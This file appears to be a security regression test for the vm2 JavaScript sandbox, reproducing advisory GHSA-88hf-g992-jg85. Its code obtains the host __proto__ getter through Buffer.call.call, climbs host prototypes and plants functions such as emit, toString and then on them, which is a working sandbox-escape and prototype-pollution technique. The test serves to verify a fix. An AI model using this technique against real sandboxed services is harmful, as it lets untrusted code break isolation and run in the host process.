// Source: vm2 test/ghsa/GHSA-88hf-g992-jg85/repro.js (fixed after vm2 3.11.2, by 3.12.2): with the raw host
// `__proto__` getter (`Buffer.call.call(__lookupGetter__, 67, '__proto__')`) a sandbox climbed
// `console._stdout` to EventEmitter.prototype and replaced `emit`; the host `process.emit` then ran
// sandbox code with `this === process`. This sandbox has no host console stream; the PoC climbs every
// host object it has and plants functions (emit, toString, toJSON, then, inspect hooks) on each host
// prototype it reaches.
const out = { reached: [] };
let gP;
try { gP = Buffer.call.call(__lookupGetter__, 67, '__proto__'); } catch (e) { try { gP = Buffer.call.call(({}).__lookupGetter__, 67, '__proto__'); } catch (x) { out.getter = String(x.message); } }
out.getter = typeof gP;
const plant = function () { __wr.use(this, 'this of a planted function'); return ''; };
const seeds = { url: new URL('http://a.test/'), params: new URLSearchParams('a=1'), encoder: new TextEncoder(), decoder: new TextDecoder(), digest: crypto.createHash('sha1'), buffer: Buffer.from('x') };
try { new URL(''); } catch (e) { seeds.error = e; }
for (const [name, seed] of Object.entries(seeds)) {
  let p = seed;
  for (let depth = 0; depth < 8 && p; depth++) {
    try { p = typeof gP === 'function' ? gP.call(p) : Object.getPrototypeOf(p); } catch (e) { break; }
    if (!p) break;
    out.reached.push(name + ':' + depth);
    for (const key of ['emit', 'toString', 'toJSON', 'then', 'valueOf', '__wrPolluted']) {
      try { p[key] = plant; } catch (e) {}
      try { Object.defineProperty(p, key, { value: plant, writable: true, configurable: true }); } catch (e) {}
    }
  }
}
return { reachedCount: out.reached.length, getter: out.getter };
